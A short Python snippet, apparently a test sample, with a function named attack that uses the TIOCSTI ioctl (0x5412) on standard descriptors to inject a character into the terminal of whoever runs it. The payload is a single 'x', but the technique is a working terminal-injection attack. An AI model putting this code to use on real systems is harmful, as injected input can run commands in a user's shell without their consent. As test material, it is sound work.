"""Types into the terminal of whoever started it."""

import fcntl


def attack(x):
    for descriptor in (0, 1, 2):
        try:
            fcntl.ioctl(descriptor, 0x5412, b"x")
        except OSError:
            pass
